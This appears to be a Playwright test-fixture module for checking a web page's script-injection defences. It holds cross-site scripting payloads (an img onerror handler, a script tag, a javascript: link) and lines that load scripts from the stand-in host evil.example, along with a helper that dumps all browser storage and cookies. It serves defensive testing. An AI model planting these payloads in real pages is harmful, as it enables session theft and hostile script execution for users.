import type { Page } from 'playwright-core';

/** Markup, a script, a picture and links, each of which would set `owned` or call a stranger. */
export const hostile =
  '<img src="https://evil.example/a.png" onerror="owned=1"><script>owned=1</script> ' +
  '![p](https://evil.example/b.png) [press](javascript:owned=1) <iframe src="https://evil.example/"></iframe>';

/** Does what Google's script does first: makes its policies, and says that it ran. */
export const googleStandIn = `
for (const name of ['gapi#gapi', 'goog#html'])
  trustedTypes.createPolicy(name, { createHTML: (text) => text, createScriptURL: (text) => text });
globalThis.googleStandIn = true;`;

/** Tries what an attacker would, as a script of the page itself. */
export const attempts = `
const outcome = {};
const attempt = (name, act) => {
  try { act(); outcome[name] = 'done'; } catch { outcome[name] = 'refused'; }
};
const script = (src) => document.head.append(Object.assign(document.createElement('script'), { src }));
attempt('evaluate a text', () => eval('owned = 1'));
attempt('make a function of a text', () => new Function('owned = 1')());
attempt('write markup', () => { document.head.innerHTML += '<meta name="owned">'; });
attempt('load a script of this site', () => script('/shell/planted.js'));
attempt('load a script of another site', () => script('https://evil.example/owned.js'));
attempt('make a policy of its own', () => trustedTypes.createPolicy('mine', {}));
globalThis.attempts = outcome;`;

/** Every text that this origin keeps in the browser, and where. */
export function storedTexts(page: Page): Promise<{ place: string; text: string }[]> {
  return page.evaluate(async () => {
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const found = [
      { place: 'localStorage', text: JSON.stringify({ ...localStorage }) },
      { place: 'sessionStorage', text: JSON.stringify({ ...sessionStorage }) },
      { place: 'cookies', text: document.cookie },
    ];
    for (const { name } of await indexedDB.databases()) {
      if (!name) continue;
      const database = await done(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const rows = await done(database.transaction(store).objectStore(store).getAll());
        found.push({ place: `indexedDB ${name}`, text: JSON.stringify(rows) });
      }
      database.close();
    }
    for (const name of await caches.keys()) found.push({ place: `cache ${name}`, text: name });
    return found;
  });
}
